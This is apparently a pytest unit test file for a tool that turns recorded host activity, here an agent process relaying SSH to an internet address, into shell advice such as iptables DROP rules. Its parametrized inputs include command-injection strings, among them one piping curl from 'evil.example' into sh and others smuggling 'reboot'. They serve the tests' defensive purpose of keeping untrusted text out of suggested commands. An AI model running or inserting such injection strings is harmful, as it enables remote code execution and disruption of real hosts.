"""Advice is pasted into a shell by somebody in a hurry: what a robot says must not be able to become a part of it."""

import pytest

from tests.unit.host.judge.recording import SSHD, Recording, Verdicts


def relay(remote: str, pid: int) -> list[str]:
    """The advice on a certain relay to that address."""
    scene = Recording()
    scene.coverage()
    scene.process(100, SSHD)
    scene.listen(22, 100, SSHD)
    scene.process(pid, "/opt/x/agentd")
    outer = scene.dial(pid, (remote, 443), scope="internet")
    scene.wait(5)
    scene.process(900, SSHD, line=(100,))
    inner, _ = scene.within(pid, 900, 22)
    scene.relay(outer, inner, pid)
    scene.ssh_login(100, 900)
    scene.relay(outer, inner, pid, "relay")
    advice = Verdicts(scene.facts).only["advice"]
    assert any(step.startswith(("Stop it", "Stop that")) for step in advice)
    return list(advice)


def test_an_address_is_cut_off_by_the_tool_of_its_family() -> None:
    """`iptables` refuses an IPv6 address, and then nothing is cut off."""
    assert any("sudo iptables -I OUTPUT -d 203.0.113.7 -j DROP" in step for step in relay("203.0.113.7", 812))
    assert any("sudo ip6tables -I OUTPUT -d 2001:db8::7 -j DROP" in step for step in relay("2001:db8::7", 812))


@pytest.mark.parametrize("remote", ["fe80::1%x; curl evil.example|sh #", "$(reboot)", "203.0.113.7; reboot"])
def test_no_text_of_a_robot_enters_a_command(remote: str) -> None:
    """Python takes anything behind a % for the zone of an IPv6 address."""
    assert [step for step in relay(remote, 812) if "curl" in step or "reboot" in step] == []


@pytest.mark.parametrize("pid", [-1, 0, 1])
def test_a_process_that_means_many_is_not_named_in_a_command(pid: int) -> None:
    """`kill -1` is everybody, `kill 0` the shell's own group, and 1 the whole system."""
    assert [step for step in relay("203.0.113.7", pid) if f"kill {pid}" in step or f"-p {pid}" in step] == []
